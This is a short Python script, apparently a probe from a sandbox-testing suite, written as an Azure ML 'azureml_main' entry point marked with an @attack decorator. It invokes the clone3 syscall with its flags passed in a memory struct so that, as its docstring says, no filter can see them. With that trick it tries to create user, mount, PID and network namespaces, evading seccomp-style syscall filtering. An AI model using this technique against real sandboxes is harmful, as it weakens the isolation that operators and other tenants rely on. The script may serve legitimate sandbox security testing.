"""Makes namespaces by a call whose flags no filter can see."""

import ctypes
import os

from attack import attack, call, every


def cloned(flags):
    arguments = (ctypes.c_uint64 * 8)(flags, 0, 0, 0, 17, 0, 0, 0)
    pid = call("clone3", arguments, 64)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return f"made a process with {flags:#x}"


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    return every(cloned, [0x10000000, 0x10020000, 0x20000, 0x40000000, 0x20000000])
